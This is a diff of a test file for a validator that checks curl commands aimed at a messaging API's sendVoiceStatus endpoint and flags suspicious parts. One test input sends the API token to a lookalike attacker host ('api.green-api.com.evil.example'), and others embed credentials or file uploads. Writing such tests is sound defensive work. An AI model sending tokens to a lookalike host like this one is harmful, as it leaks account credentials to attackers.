@@ -190,23 +190,23 @@ describe("what is not understood is named, and its value is not", () => {
     [`curl ${address} -d 'a=b'`, ["body-broken"]],
     [`curl ${address} -d '[1]'`, ["body-broken"]],
     [
-      `curl https://api.green-api.com.evil.example/waInstance7103000000/sendVoiceStatus/${token} -d '${'{"fileName":"a.mp3"}'}'`,
+      `curl https://api.green-api.com.evil.example/waInstance7103000000/sendVoiceStatus/${token} -d '{"fileName":"a.mp3"}'`,
       ["address"],
     ],
     [
-      `curl https://u:p@api.green-api.com/waInstance7103000000/sendVoiceStatus/${token} -d '${'{"fileName":"a.mp3"}'}'`,
+      `curl https://u:p@api.green-api.com/waInstance7103000000/sendVoiceStatus/${token} -d '{"fileName":"a.mp3"}'`,
       ["address"],
     ],
     [
-      `curl {{apiUrl}}/waInstance{{idInstance}}/sendVoiceStatus/{{apiTokenInstance}} -d '${'{"fileName":"a.mp3"}'}'`,
+      `curl {{apiUrl}}/waInstance{{idInstance}}/sendVoiceStatus/{{apiTokenInstance}} -d '{"fileName":"a.mp3"}'`,
       [],
     ],
     [
-      `curl ${address.replace("sendVoiceStatus", "sendFileByUrl")} -d '${'{"fileName":"a.mp3","chatId":"1@c.us"}'}'`,
+      `curl ${address.replace("sendVoiceStatus", "sendFileByUrl")} -d '{"fileName":"a.mp3","chatId":"1@c.us"}'`,
       ["method: sendFileByUrl", "field: chatId"],
     ],
     [
-      `curl ${address} -u me:secret -F file=@a --wat=secret -H 'Authorization: Bearer secret' -H 'secret' -d '${'{"fileName":"a.mp3"}'}'`,
+      `curl ${address} -u me:secret -F file=@a --wat=secret -H 'Authorization: Bearer secret' -H 'secret' -d '{"fileName":"a.mp3"}'`,
       ["option: -u", "option: -F", "option: --wat", "header: Authorization", "header: secret"],
     ],
   ])("%s", (text, remarks) => {
